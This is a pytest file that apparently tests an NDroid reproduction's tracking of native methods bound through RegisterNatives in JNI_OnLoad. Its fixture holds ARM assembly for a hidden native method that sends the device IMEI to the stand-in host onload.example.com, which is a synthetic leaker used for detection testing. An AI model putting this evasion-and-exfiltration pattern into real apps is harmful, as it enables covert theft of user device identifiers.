"""RegisterNatives / JNI_OnLoad binding path.

Malware-style apps hide native entry points by binding through
``RegisterNatives`` in ``JNI_OnLoad`` instead of exporting ``Java_*``
symbols; NDroid's tracking must work identically (the hooks key off
``dvmCallJNIMethod`` and the method's bound address, not the symbol).
"""

import pytest

from repro.common.taint import TAINT_IMEI
from repro.core import NDroid
from repro.dalvik import ClassDef, MethodBuilder
from repro.framework import AndroidPlatform, Apk
from repro.jni.slots import jni_offset


def build_onload_app() -> Apk:
    """A case-2 leaker whose native method is bound via RegisterNatives."""
    cls = ClassDef("Lcom/onload/App;")
    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
    main.const_string(0, "libonload.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->beam", 1)
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    JNI_OnLoad:                       ; (env, reserved)
        push {{r4, lr}}
        mov r4, r0
        ; jclass = FindClass(env, "com/onload/App")
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('FindClass')}]
        ldr r1, =cls_name
        blx ip
        mov r1, r0
        ; RegisterNatives(env, jclass, table, 1)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('RegisterNatives')}]
        mov r0, r4
        ldr r2, =method_table
        mov r3, #1
        blx ip
        mov r0, #0                    ; JNI_VERSION placeholder
        pop {{r4, pc}}

    hidden_beam:                      ; the unexported implementation
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, pc}}

    cls_name:
        .asciz "com/onload/App"
    m_name:
        .asciz "beam"
    m_sig:
        .asciz "(Ljava/lang/String;)V"
    dest:
        .asciz "onload.example.com:80"
    .align 2
    method_table:
        .word m_name
        .word m_sig
        .word hidden_beam
    """
    return Apk(package="com.onload.app", classes=[cls],
               native_libraries={"libonload.so": native},
               load_library_calls=["libonload.so"])


@pytest.fixture
def platform():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    return platform


def test_jni_onload_runs_and_binds(platform):
    apk = build_onload_app()
    registered = []
    platform.emu.add_entry_hook(platform.jni.symbols["RegisterNatives"],
                                lambda emu: registered.append(emu.cpu.regs[3]))
    platform.install(apk)
    platform.run_app(apk)
    method = platform.vm.resolve_method("Lcom/onload/App;->beam")
    program = platform._loaded_libraries["libonload.so"]
    # JNI_OnLoad ran and bound the unexported implementation through one
    # RegisterNatives call with a one-entry table.
    assert registered == [1]
    assert method.native_address == program.entry("hidden_beam")


def test_leak_through_registered_native_detected(platform):
    apk = build_onload_app()
    platform.install(apk)
    platform.run_app(apk)
    leaks = [r for r in platform.leaks.records if r.taint & TAINT_IMEI]
    assert leaks
    assert any("onload.example.com" in r.destination for r in leaks)
    sent = platform.kernel.network.transmissions_to("onload.example.com")
    assert sent[0].payload == platform.device.imei.encode()


def test_register_natives_unknown_method_fails():
    platform = AndroidPlatform()
    jni = platform.jni
    platform.vm.register_class(ClassDef("LX;"))
    cls_handle = jni.class_handle("LX;")
    memory = platform.memory
    memory.write_cstring(0x9000, "nope")
    memory.write_u32(0x9100, 0x9000)   # name
    memory.write_u32(0x9104, 0)        # sig
    memory.write_u32(0x9108, 0x6000_0000)
    result = platform.emu.call(jni.symbols["RegisterNatives"],
                               args=(jni.env_pointer(), cls_handle,
                                     0x9100, 1))
    assert result == 0xFFFF_FFFF


def test_unregister_natives(platform):
    apk = build_onload_app()
    platform.install(apk)
    platform.run_app(apk)
    jni = platform.jni
    cls_handle = jni.class_handle("Lcom/onload/App;")
    platform.emu.call(jni.symbols["UnregisterNatives"],
                      args=(jni.env_pointer(), cls_handle))
    method = platform.vm.resolve_method("Lcom/onload/App;->beam")
    assert method.native_address == 0
